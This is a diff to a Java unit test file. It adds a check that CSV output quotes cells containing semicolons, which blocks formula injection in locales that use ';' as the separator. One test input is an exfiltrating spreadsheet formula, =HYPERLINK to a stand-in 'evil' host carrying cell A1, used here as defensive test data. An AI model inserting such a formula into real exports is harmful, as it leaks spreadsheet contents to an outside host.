@@ -30,6 +30,15 @@ class OutputTest {
     }
 
     @Test
+    void aCsvCellHoldingASemicolonIsQuotedSoNoSpreadsheetSplitsAFormulaOutOfIt() {
+        // spreadsheets in locales whose list separator is ';' (most of Europe) split an unquoted line there: the part
+        // after the ';' starts a cell of its own, and '=...' in it is a formula no prefix of the whole cell neutralises
+        assertThat(Output.csv("disk full;=HYPERLINK(\"http://evil/\"&A1)")).startsWith("\"").endsWith("\"");
+        assertThat(Output.csv("x;@SUM(1)")).isEqualTo("\"x;@SUM(1)\"");
+        assertThat(Output.csv("plain")).isEqualTo("plain");
+    }
+
+    @Test
     void jsonOutputEscapesWhatWouldDriveTheTerminalAndStaysTheSameDocument() throws Exception {
         String hostile = "a\u009B31mb\u202Ec\u2028d\u0085é€";
         for (GlobalOptions.Format format : List.of(GlobalOptions.Format.jsonl, GlobalOptions.Format.json)) {
